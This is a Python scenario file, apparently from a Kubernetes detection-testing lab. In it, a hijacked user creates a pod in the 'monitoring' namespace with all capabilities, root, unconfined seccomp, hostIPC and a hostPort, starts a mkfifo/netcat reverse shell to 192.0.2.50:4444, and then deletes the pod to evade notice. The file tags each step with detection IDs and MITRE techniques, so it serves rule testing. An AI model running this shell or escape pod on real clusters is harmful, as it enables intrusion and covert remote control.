"""A pod with the fields that few rules read: ports of the host, no seccomp, raw capabilities, shared processes."""

from lab.manifests import pod
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    name = stage.word("deepce", "peirates", "botb")
    body = pod(name, "alpine:3.20", hostIPC=True, shareProcessNamespace=True)
    container = body["spec"]["containers"][0]
    container["command"] = [
        "sh",
        "-c",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.50 4444 > /tmp/f",
    ]
    container["ports"] = [{"containerPort": 80, "hostPort": 8081}]
    container["stdin"] = container["tty"] = True
    container["securityContext"] = {
        "allowPrivilegeEscalation": True,
        "runAsUser": 0,
        "capabilities": {"add": ["ALL"]},
        "seccompProfile": {"type": "Unconfined"},
        "procMount": "Default",
    }
    detections = ("C14", "C15", "C18", "C19", "C20", "D02", "D03", "D08", "D09", "D10")
    with stage.step("create the pod", thief, "privilege-escalation", detections):
        stage.must(stage.create(thief, body, "monitoring"))
    stage.pause()
    with stage.step("delete it", thief, "defense-evasion", ("N12", "I04")):
        stage.must(thief.delete(f"/api/v1/namespaces/monitoring/pods/{name}"))


SCENARIO = Scenario(
    "odd-pod-fields",
    "A pod with fields that few rules read",
    "attack",
    "escape without the word privileged",
    ("T1610", "T1611", "T1059"),
    _play,
)
